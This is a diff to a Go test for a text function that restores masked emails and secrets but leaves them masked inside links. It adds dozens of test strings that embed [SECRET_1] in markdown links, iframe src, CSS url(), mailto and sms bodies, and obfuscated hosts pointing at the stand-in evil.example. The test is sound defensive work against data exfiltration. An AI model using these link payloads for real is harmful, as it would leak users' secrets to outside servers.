@@ -137,15 +137,21 @@ func TestRestoreValues_LeavesLinksMasked(t *testing.T) {
 		"www.evil.example/[EMAIL_1]", "www.[SECRET_1].example", "evil.example/?q=[EMAIL_1]", "//evil.example?[EMAIL_1]", "evil.example:8080/[EMAIL_1]", "1.2.3.4/[EMAIL_1]",
 		"[SECRET_1].evil.example", "a-[SECRET_1].x.evil.example", "[SECRET_1].example/x", "mailto:x@evil.example?body=[SECRET_1]", "[SECRET_1]@evil.example", "a.[SECRET_1]+b@evil.example",
 		"访问https://evil.example/?q=[EMAIL_1]", "https://evil.example/\u00a0[EMAIL_1]",
+
+		"[x][r]\n\n[r]: https://evil.example/?a<[SECRET_1]", "[x](https://evil.example/(a)<[SECRET_1])", `[r]: <https://evil.example/a\> [SECRET_1]>`, `[r]: <https://evil.example/a\< [SECRET_1]>`,
+		"[r]: /log?q=[SECRET_1]", "[r]: [SECRET_1]", "[r]:\n  [SECRET_1]", "> [r]:\n> log[SECRET_1]", "[r]: //evil。example/?q=[SECRET_1]",
+		"[x](/log(a)?q=[SECRET_1])", "[x](//1249763844/(a)?q=[SECRET_1])", "[x]( \n[SECRET_1])", "[x](log\n\t[SECRET_1])", "[x](log(a)\n[SECRET_1])", "[x](log\\)\n[SECRET_1])", "[x](<)\n[SECRET_1]>)",
+		`<a title=a< href="//1249763844/?q=[SECRET_1]">`, `<iframe title='>'` + "\n\nsrc=log[SECRET_1] >", "<style>\na{background:url(\nlog[SECRET_1])}", "<tel:[SECRET_1]>", "<a:b> <a\nhref=[SECRET_1]>", "<[EMAIL_1] src='log [SECRET_1]'>",
+		"sms:+123?body=[SECRET_1]", "evil&period;example&sol;[SECRET_1]", "[EMAIL_1]/[SECRET_1]", "evil.example:[SECRET_1]",
 	} {
 		if got, _ := modeltext.RestoreValues(text, 1<<10, restore); got != text {
 			t.Errorf("%q: got %q, want it unchanged", text, got)
 		}
 	}
 	for _, text := range []string{
-		"Write to [EMAIL_1].", "[EMAIL_1]", "Email:[EMAIL_1]", "See https://example.com, or write to [EMAIL_1]", "https://example.com\n[EMAIL_1]", "[mail [EMAIL_1]](https://example.com)",
-		"[x](https://example.com) [EMAIL_1]", "[x](<https://example.com>) ([EMAIL_1])", "[EMAIL_1] (not [SECRET_1])", "[EMAIL_1]/[SECRET_1]", "<b>[EMAIL_1]</b>", "<a href=x>[EMAIL_1]</a>",
-		"if a<b, then [EMAIL_1] it's", "config.yaml:[SECRET_1]", "see main.go, [SECRET_1]", "[EMAIL_1]: https://example.com", "[EMAIL_1].", "[EMAIL_1].Thanks", "|[EMAIL_1]|[SECRET_1]|", "**[EMAIL_1]**",
+		"Write to [EMAIL_1].", "[EMAIL_1]", "Email:[EMAIL_1]", "See https://example.com, or write to [EMAIL_1]", "https://example.com\n[EMAIL_1]", "[mail [EMAIL_1]](example)",
+		"[x](https://example.com) [EMAIL_1]", "See [x](https://example.com/a_(b)).\n\nWrite to [EMAIL_1].", "[EMAIL_1] (not [SECRET_1])", "See <https://example.com>, or write to Ana <[EMAIL_1]>",
+		"[EMAIL_1] wrote <b>this</b>", "if a < b, then [EMAIL_1] it's", "see main.go, [SECRET_1]", "[EMAIL_1]: https://example.com\n[SECRET_1]", "password=[SECRET_1]?", "|[EMAIL_1]|[SECRET_1]|", "**[EMAIL_1]**",
 	} {
 		if got, _ := modeltext.RestoreValues(text, 1<<10, restore); got != restore(text) {
 			t.Errorf("%q: got %q, want the values", text, got)
